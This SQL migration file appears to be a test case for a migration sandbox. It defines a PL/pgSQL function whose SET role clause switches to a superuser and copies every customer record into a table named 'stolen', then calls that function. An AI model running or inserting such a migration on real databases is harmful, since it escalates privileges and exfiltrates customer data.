-- A function whose SET clause switches to a superuser, called in the same
-- migration (issue 11, escape 1c).
-- +goose Up
-- +goose StatementBegin
DO $$ BEGIN
    EXECUTE format('CREATE FUNCTION catalog.esc() RETURNS void LANGUAGE plpgsql SET role = %I AS $f$ BEGIN CREATE TABLE catalog.stolen AS SELECT * FROM customers.customer; END $f$', (SELECT rolname FROM pg_catalog.pg_roles WHERE rolsuper ORDER BY oid LIMIT 1));
END $$;
-- +goose StatementEnd
SELECT catalog.esc();

-- +goose Down
SELECT 1;
